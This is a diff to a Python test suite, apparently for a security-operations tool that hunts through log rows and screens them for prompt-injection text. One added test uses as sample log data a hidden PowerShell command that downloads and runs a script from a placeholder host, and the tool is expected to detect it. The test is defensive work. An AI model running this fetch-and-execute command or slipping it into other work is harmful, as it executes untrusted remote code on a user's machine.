@@ -5,15 +5,18 @@ from __future__ import annotations
 import asyncio
 from collections.abc import Callable
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from soc_tui.analysts import Analyst
-from soc_tui.analysts.injection.screening import TAG
+from soc_tui.analysts.injection.screening import TAG, screen
 from soc_tui.analysts.offline.analyst import OfflineAnalyst
 from soc_tui.guardrails.catalog import load_catalog
+from soc_tui.history.bundle_file import Bundle, pack
 from soc_tui.hunting.hunter import Hunter
+from soc_tui.hunting.replay import open_bundle
 from soc_tui.model.coverage import Unseen
 from soc_tui.model.events import Event, Quoted
 from soc_tui.model.hunt import Hunt, Status
@@ -21,7 +24,9 @@ from soc_tui.model.limits import Limits
 from soc_tui.model.quote import Quote, injection_text
 from soc_tui.model.rows import Rows
 from tests.analysts.openai.cases import ENCODED, make_analyst, rows_of
+from tests.history.hunts import example_hunt
 from tests.hunting.test_hunter import MemoryWorkspace
+from tests.wire import openai_faults as wire
 from tests.wire.openai_server import OpenAIServer
 from tests.wire.scripted_model import HuntRequest, finding
 
@@ -78,6 +83,15 @@ async def test_a_silent_model_leaves_the_finding_and_its_silence_is_said() -> No
     assert "The model said nothing about 2 rows that address it." in hunt.notes
 
 
+async def test_a_hunt_that_fails_says_what_the_model_left_unsaid() -> None:
+    with OpenAIServer(hunt=honest) as server:
+        server.next(wire.unauthorized())
+        _, hunt = await hunted(make_analyst(server))
+    assert hunt.problem
+    assert [found.tags for found in hunt.findings] == [(TAG,)]
+    assert hunt.silent_rows == 2
+
+
 async def test_a_model_that_reports_the_rows_is_not_called_silent() -> None:
     hunt = await by_model(honest)
     assert hunt.findings[0].tags == (TAG,)
@@ -87,12 +101,16 @@ async def test_a_model_that_reports_the_rows_is_not_called_silent() -> None:
 
 
 async def test_the_offline_analyst_has_the_finding_too() -> None:
-    events, hunt = await hunted(OfflineAnalyst())
+    download = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"
+    rows = rows_of([ORDER, download, ORDER])
+    events, hunt = await hunted(OfflineAnalyst(), rows)
     quoted = next(event for event in events if isinstance(event, Quoted))
     assert quoted.quote.injected_rows == 2
-    assert hunt.findings[0].tags == (TAG,)
-    assert hunt.findings[0].grounded
-    assert len(hunt.findings) == 1  # the same rows are told once
+    first, *rest = hunt.findings
+    assert first.tags == (TAG,)
+    assert first.grounded
+    # No rule tells of the same rows once more.
+    assert {cited.row_id for found in rest for cited in found.evidence} == {"r2"}
     assert hunt.silent_rows == 0
 
 
@@ -144,3 +162,17 @@ def test_what_a_quote_says(rows: int, free: bool, text: str) -> None:
     quote = Quote("m", 1, 1, None, Unseen(5, 5), free=free, injected_rows=rows)
     assert injection_text(quote).startswith(text)
     assert bool(injection_text(quote)) is bool(rows)
+
+
+@pytest.mark.parametrize("told", [30, 3_000])
+def test_the_number_of_rows_is_counted_again_in_a_replay(tmp_path: Path, told: int) -> None:
+    rows = rows_of([f"{ORDER} {number}" for number in range(30)])
+    (found,) = screen(rows).findings
+    assert "30 rows" in found.description
+    found = replace(found, description=found.description.replace("30 rows", f"{told} rows"))
+    hunt = replace(example_hunt(), findings=(found,), rows=rows, row_count=30)
+    path = tmp_path / "b.zip"
+    path.write_bytes(pack(Bundle(hunt), 1 << 20))
+    (again,) = open_bundle(path, "", lambda *_: ()).hunt.findings
+    assert again.grounded is (told == 30)
+    assert any(f"{told} rows" in doubt for doubt in again.doubts) is (told != 30)
